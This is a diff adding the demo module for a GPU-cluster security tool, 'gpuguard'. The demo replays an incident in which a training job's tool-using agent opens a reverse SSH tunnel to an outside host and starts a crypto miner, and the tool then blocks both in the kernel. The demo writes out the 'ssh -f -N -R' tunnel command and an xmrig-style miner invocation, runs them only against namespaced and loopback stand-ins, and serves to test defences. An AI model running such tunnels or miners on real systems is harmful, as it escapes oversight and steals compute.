@@ -1,0 +1,147 @@
+"""``gpuguard demo``: the ROME incident replayed on this host, harmlessly, with the final timeline.
+
+A Slurm-like job trains on the GPU (device nodes made in a private /dev: no
+driver needed), then a child of the training process opens a reverse SSH
+tunnel to an "outside" host (a network namespace with its own sshd, made for
+the demo) and starts a "miner" (a script that only sends a stratum handshake
+to a fake pool on loopback). gpuguard blocks both in the kernel and leaves the
+training alone; with --monitor it only reports. Everything the demo creates
+(processes, cgroups, namespace) is removed at the end.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import sys
+import tempfile
+import textwrap
+import time
+import uuid
+from pathlib import Path
+
+from gpuguard.lab import (
+    CLI,
+    ROOT,
+    FakePool,
+    Service,
+    free_port,
+    install_miner,
+    remote_host,
+    remove_cgroup_tree,
+    run_in_cgroup,
+)
+
+PYTHON = "/usr/bin/python3"
+JOB = "4242"
+
+
+def say(step: str, text: str = "") -> None:
+    print(f"\n\033[1m== {step}\033[0m {text}", flush=True)
+
+
+def cli(port: int, *args: str) -> subprocess.CompletedProcess:
+    return subprocess.run([*CLI, *args, "--collector", f"127.0.0.1:{port}"], capture_output=True, text=True,
+                          cwd=ROOT, check=False)
+
+
+def wait_policy(port: int, host: str, timeout: float = 20) -> int:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        out = cli(port, "policy", "show", "--json")
+        if out.returncode == 0:
+            reply = json.loads(out.stdout)
+            version = int(reply["policy"]["version"])
+            if any(a["host_id"] == host and int(a["version"]) == version for a in reply["agents"]):
+                return version
+        time.sleep(0.3)
+    raise TimeoutError("the agent did not confirm the policy")
+
+
+def training_program(rogue: str, ps_port: int) -> str:
+    return textwrap.dedent(f"""\
+        import os, socket, subprocess
+        print("trainer: step 1 on the GPU", flush=True)
+        for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
+            try: os.close(os.open(dev, os.O_RDWR))
+            except OSError: pass
+        print("trainer: my tool-using agent runs a command...", flush=True)
+        out = subprocess.run(["/bin/sh", "-c", {rogue!r}], capture_output=True, text=True).stdout
+        print("  " + out.strip().replace(chr(10), chr(10) + "  "), flush=True)
+        try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
+        except OSError: pass
+        with socket.create_connection(("127.0.0.1", {ps_port})) as s: s.sendall(b"allreduce step 2")
+        print("trainer: step 2 done, parameter server reached", flush=True)
+    """)
+
+
+def run_demo(monitor: bool) -> int:
+    from agent.jobs import ensure_cgroup2_mount  # noqa: PLC0415
+
+    if not shutil.which("unshare") or not Path("/usr/sbin/sshd").exists():
+        print("gpuguard demo: needs util-linux (unshare) and openssh-server: run `make setup`", file=sys.stderr)
+        return 3
+    tmp = Path(tempfile.mkdtemp(prefix="gpuguard-demo-"))
+    port, host = free_port(), f"demo-{uuid.uuid4().hex[:6]}"
+    cg_base = ensure_cgroup2_mount() / f"gpuguard-demo-{uuid.uuid4().hex[:6]}"
+    col = Service([*CLI, "collector", "--listen", f"127.0.0.1:{port}", "--store", str(tmp / "collector.db")],
+                  tmp / "collector.log", "collector listening on")
+    agent = Service([*CLI, "agent", "--collector", f"127.0.0.1:{port}", "--spool-dir", str(tmp / "spool"),
+                     "--state-dir", str(tmp / "agent"), "--host-id", host, "--quiet"],
+                    tmp / "agent.log", "capture probes attached")
+    pool, ps = FakePool(), FakePool()
+    try:
+        say("1/5", f"starting a collector (127.0.0.1:{port}, SQLite in {tmp}) and the agent")
+        col.start()
+        agent.start()
+        wait_policy(port, host)
+        slurm = cg_base / "slurm" / "uid_0"
+        slurm.mkdir(parents=True)
+        time.sleep(0.5)
+        if monitor:
+            (cg_base / "slurm" / "uid_0" / f"job_{JOB}").mkdir()
+            (tmp / "monitor.yaml").write_text(f"job_modes: {{'{JOB}': monitor}}\n")
+            cli(port, "policy", "apply", str(tmp / "monitor.yaml"))
+            wait_policy(port, host)
+        print(f"   built-in rules in force ({'monitor' if monitor else 'enforce'} mode for job {JOB})")
+        say("2/5", "making an 'outside' host: network namespace + sshd, and a fake mining pool on loopback")
+        with remote_host(tmp) as remote:
+            print(f"   outside host {remote.addr} (netns {remote.netns}); fake pool 127.0.0.1:{pool.port}")
+            miner = install_miner(tmp, "xmrig")
+            ssh = " ".join(["/usr/bin/ssh", *remote.ssh_args(), "-f", "-N", "-R", "127.0.0.1:2222:127.0.0.1:22",
+                            f"root@{remote.addr}"])
+            rogue = (f"{ssh}; echo \"agent: ssh -R to {remote.addr} exit=$?\"; sleep 1; "
+                     f"{miner} -o stratum+tcp://127.0.0.1:{pool.port} -u 4{'B' * 94} -a rx/0; "
+                     "echo \"agent: miner exit=$?\"")
+            say("3/5", f"job {JOB}: training on the GPU, then a reverse tunnel and a miner from inside the job")
+            job = cg_base / "slurm" / "uid_0" / f"job_{JOB}" / "step_0"
+            job.mkdir(parents=True, exist_ok=True)
+            script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
+                      f'&& exec {PYTHON} -c "$0"')
+            unshare = shutil.which("unshare") or "/usr/bin/unshare"
+            run = run_in_cgroup(job, [unshare, "-m", "/bin/sh", "-c", script, training_program(rogue, ps.port)],
+                                capture_output=True, text=True, timeout=120)
+            print(textwrap.indent(run.stdout.strip(), "   "))
+            tunnel_up = remote.listening(2222)
+            pool.settle(4)
+            print(f"   outside host sees the reverse tunnel: {'YES' if tunnel_up else 'no'}; "
+                  f"pool got a stratum handshake: {'YES' if pool.got(b'mining.subscribe') else 'no'}")
+            subprocess.run(["pkill", "-f", f"root@{remote.addr}"], check=False)   # the demo's own -f ssh
+        time.sleep(2)
+        say("4/5", f"gpuguard alerts --job {JOB}")
+        print(cli(port, "alerts", "--job", JOB).stdout)
+        say("5/5", f"gpuguard timeline {JOB}   (and the process tree)")
+        print(cli(port, "timeline", JOB, "--kind", "exec", "--kind", "gpu_open", "--kind", "enforcement",
+                  "--kind", "connect").stdout)
+        print(cli(port, "tree", JOB).stdout)
+        print(f"\nCollector data kept in {tmp} (collector.db, logs). Try:\n"
+              f"  gpuguard collector --store {tmp / 'collector.db'} --listen 127.0.0.1:{port} &\n"
+              f"  gpuguard timeline {JOB} --json")
+        return 0
+    finally:
+        pool.close()
+        ps.close()
+        agent.stop()
+        col.stop()
+        remove_cgroup_tree(cg_base)
